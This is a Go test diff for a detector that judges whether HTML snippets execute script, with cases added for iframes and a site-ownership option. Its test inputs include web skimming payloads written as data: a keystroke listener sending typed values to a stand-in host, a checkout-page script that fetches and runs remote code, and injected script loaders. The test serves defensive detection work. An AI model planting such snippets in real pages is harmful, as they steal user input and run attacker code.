@@ -241,14 +241,18 @@ func TestWhatRowsDoInPages(t *testing.T) {
 	t.Parallel()
 	for text, executes := range map[string]bool{
 		"<p>10:00-18:00 <span id=o></span></p><script>if (new Date().getDay() === 0) document.getElementById('o').textContent = 'closed'; new Image().src = 'https://pixel.example/v.gif?p=' + encodeURIComponent(location.pathname);</script>": false,
-		"<script src=https://x.example/a.js></script>": true,
-		"<script>var s = document.createElement('script'); s.src = 'https://x.example/a.js'; document.head.append(s);</script>":            true,
-		"<script>document.addEventListener('input', function (e) { new Image().src = 'https://x.example/?' + e.target.value; });</script>": true,
+		"<iframe src=\"https://films.example/embed/1\" width=320></iframe>":                                                                     false,
+		"<iframe src=\"/media/film.html\"></iframe>":                                                                                            true,
+		"<iframe src=\"https://films.example/embed/1\" onload=\"f()\"></iframe>":                                                                true,
+		"<iframe srcdoc=\"<script>f()</script>\"></iframe>":                                                                                     true,
+		"<script src=https://x.example/a.js></script>":                                                                                          true,
+		"<script>var s = document.createElement('script'); s.src = 'https://x.example/a.js'; document.head.append(s);</script>":                 true,
+		"<script>document.addEventListener('input', function (e) { new Image().src = 'https://x.example/?' + e.target.value; });</script>":      true,
 		"<script>eval(atob('YWxlcnQoMSk='))</script>":                                                                                           true,
 		"<script>document.title = 'x'</script><img src=x onerror=\"f()\">":                                                                      true,
 		"<script>if (location.href.indexOf('checkout') > 0) fetch('https://x.example/').then(r => r.text()).then(t => Function(t)());</script>": true,
 	} {
-		e := judgeExecutable(modeMarkup, "html", text, script.Options{})
+		e := judgeExecutable(modeMarkup, "html", text, script.Options{Own: "shop.example"})
 		if got := slices.Contains(e.capabilities, tillwatch.Executes); got != executes || !e.active {
 			t.Errorf("%s: executes %v, want %v (%v)", text, got, executes, e.capabilities)
 		}
